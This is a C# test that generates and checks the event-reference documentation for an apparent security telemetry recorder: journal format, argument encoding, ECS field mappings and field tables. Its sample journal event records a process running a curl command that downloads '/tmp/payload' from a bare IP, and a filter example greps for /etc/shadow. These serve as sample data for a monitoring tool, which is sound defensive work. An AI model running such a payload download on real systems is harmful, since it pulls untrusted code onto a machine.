using System.Text;
using Recorder.Contracts.Ecs;
using Recorder.Tests.Shared;

namespace Recorder.Plugins.Sinks.Journal.Tests;

/// <summary>
/// docs/event-reference.md is generated from the contracts. This test fails when the document is stale;
/// run it with RECORDER_UPDATE_DOCS=1 to rewrite it.
/// </summary>
public sealed class EventReferenceTests
{
    [Fact]
    public void Event_reference_lists_every_built_in_type_and_field()
    {
        var path = Path.Combine(RepoPaths.Root, "docs", "event-reference.md");
        var expected = Generate();
        if (Environment.GetEnvironmentVariable("RECORDER_UPDATE_DOCS") == "1") File.WriteAllText(path, expected);
        Assert.True(File.Exists(path), $"{path} is missing: run this test with RECORDER_UPDATE_DOCS=1");
        Assert.True(expected == File.ReadAllText(path), $"{path} is stale: run this test with RECORDER_UPDATE_DOCS=1");
    }

    internal static string Generate()
    {
        var text = new StringBuilder();
        text.AppendLine("# Event reference");
        text.AppendLine();
        text.AppendLine("<!-- Generated from EventSchemas.All and CommonFields.All by tests/Recorder.Plugins.Sinks.Journal.Tests/EventReferenceTests.cs");
        text.AppendLine("     (RECORDER_UPDATE_DOCS=1 dotnet test tests/Recorder.Plugins.Sinks.Journal.Tests). Do not edit by hand. -->");
        text.AppendLine();
        text.AppendLine("Every event has the common fields below plus the fields of its type. The names are stable: they are the keys of");
        text.AppendLine("the JSON journal, the names used in subscription filters, and (with dots replaced by underscores) the column names");
        text.AppendLine("of the SQL views of `recorder query` (one view per type, named like the type: `file.write` is `file_write`).");
        text.AppendLine();
        text.AppendLine("## Journal lines");
        text.AppendLine();
        text.AppendLine("One JSON object per line, UTF-8, with **flat dotted keys** (`\"file.path\"`, not nested objects), so a line can be");
        text.AppendLine("filtered with `jq 'select(.[\"event.type\"] == \"file.write\") | .[\"file.path\"]'` or `grep '\"file.path\":\"/etc/shadow\"'`.");
        text.AppendLine("Absent values are left out rather than written as null. Times are ISO 8601 UTC with 100 ns precision");
        text.AppendLine("(`2026-11-24T22:40:45.1234567Z`), GUIDs are lower-case `8-4-4-4-12` text, multi-valued fields and lists (such as");
        text.AppendLine("`process.args`) are arrays, and enricher tags are an object under `tags`.");
        text.AppendLine();
        text.AppendLine("```json");
        text.AppendLine("{\"event.id\":812,\"event.time\":\"2026-11-20T10:00:07.0000000Z\",\"event.type\":\"file.write\",\"event.collector\":\"linux-audit\",\"event.outcome\":\"success\",\"event.result\":0,\"process.guid\":\"6f1c…\",\"process.pid\":3000,\"process.path\":\"/usr/bin/curl\",\"process.cmd\":\"curl -o /tmp/payload http://93.184.216.34/x\",\"process.args\":[\"curl\",\"-o\",\"/tmp/payload\",\"http://93.184.216.34/x\"],\"process.user_name\":\"alice\",\"process.parent_pid\":1200,\"process.ancestry_path\":[\"/bin/bash\",\"/usr/sbin/sshd\",\"/sbin/init\"],\"file.path\":\"/tmp/payload\"}");
        text.AppendLine("```");
        text.AppendLine();
        text.AppendLine("## Exact arguments");
        text.AppendLine();
        text.AppendLine("`process.args` is the argument vector exactly as the process received it, `argv[0]` first; `process.cmd` is the same");
        text.AppendLine("joined for display (arguments separated by a space, quoted where they hold whitespace, quotes or backslashes). Bytes");
        text.AppendLine("that are not valid UTF-8 (Linux and macOS arguments are bytes) are kept as the private-use characters U+EF80..U+EFFF,");
        text.AppendLine("one per byte (`LosslessUtf8` in the contracts gives the bytes back), so nothing is replaced by U+FFFD. A filter on");
        text.AppendLine("`process.args` matches when any argument matches.");
        text.AppendLine();
        text.AppendLine("## ECS names");
        text.AppendLine();
        text.AppendLine($"The *ECS* column gives the Elastic Common Schema {EcsMapping.EcsVersion} field of each Recorder field, from the one table in");
        text.AppendLine("the contracts (`Recorder.Contracts.Ecs.EcsMapping`) that sinks and exporters use. *(Recorder only)* marks a field ECS has no");
        text.AppendLine($"place for; exporters write it as `{EcsMapping.RecorderOnlyPrefix}` followed by its Recorder name. Some fields map differently in some event types:");
        text.AppendLine();
        text.AppendLine("| Event type | Field | ECS |");
        text.AppendLine("|---|---|---|");
        foreach (var o in EcsMapping.Fields.Where(f => f.EventType is not null))
            text.AppendLine($"| `{o.EventType}` | `{o.Field}` | {Ecs(o.EventType!, o.Field)} |");
        text.AppendLine();
        text.AppendLine("## Common fields");
        text.AppendLine();
        text.AppendLine("The `user_sid`, `user_domain`, `logon_id`, `terminal_session` and `integrity_level` fields are filled on Windows,");
        text.AppendLine("`pid_version` on macOS (where `login_uid` is the audit token's auid, as on Linux), `container_id` where a process runs in a container.");
        text.AppendLine();
        text.AppendLine("| Field | SQL column | Type | ECS | Description |");
        text.AppendLine("|---|---|---|---|---|");
        foreach (var f in CommonFields.All) Row(text, f, eventType: "");
        text.AppendLine("| `tags` | `tags` | Object (SQL: JSON text) | `labels` (dots in a key become `_`) | Labels added by enrichers, such as an audit rule key. |");
        text.AppendLine();
        text.AppendLine("## Event types");
        text.AppendLine();
        text.AppendLine("| Type | SQL view | ECS category / type | Description |");
        text.AppendLine("|---|---|---|---|");
        foreach (var schema in EventSchemas.All)
            text.AppendLine($"| [`{schema.Name}`](#{Anchor(schema.Name)}) | `{schema.Name.Replace('.', '_')}` | {Categorization(schema.Name)} | {schema.Description} |");
        foreach (var schema in EventSchemas.All)
        {
            text.AppendLine();
            text.AppendLine($"### {schema.Name}");
            text.AppendLine();
            text.AppendLine(schema.Description);
            text.AppendLine();
            text.AppendLine("| Field | SQL column | Type | ECS | Description |");
            text.AppendLine("|---|---|---|---|---|");
            foreach (var f in schema.Fields) Row(text, f, schema.Name);
        }
        return text.ToString();
    }

    private static void Row(StringBuilder text, EventField f, string eventType)
    {
        var type = f.Type switch
        {
            FieldType.String => "String",
            FieldType.Int64 => "Integer",
            FieldType.Boolean => "Boolean",
            FieldType.Double => "Number",
            FieldType.Timestamp => "Time (ISO 8601 UTC)",
            FieldType.Guid => "GUID",
            FieldType.IpAddress => "IP address",
            FieldType.StringList => "Array of String (SQL: JSON array text)",
            _ => f.Type.ToString(),
        };
        if (f.MultiValued) type = $"Array of {type} (SQL: JSON array text)";
        text.AppendLine($"| `{f.Name}` | `{f.Name.Replace('.', '_')}` | {type} | {Ecs(eventType, f.Name)} | {f.Description} |");
    }

    private static string Ecs(string eventType, string field) =>
        EcsMapping.TryGetMapping(eventType, field, out var m) && m.EcsName is { } name ? $"`{name}`" : "*(Recorder only)*";

    private static string Categorization(string eventType) =>
        EcsMapping.TryGetCategorization(eventType, out var c) ? $"`{string.Join(",", c.Categories)}` / `{string.Join(",", c.Types)}`" : "";

    private static string Anchor(string name) => name.Replace(".", "", StringComparison.Ordinal);
}
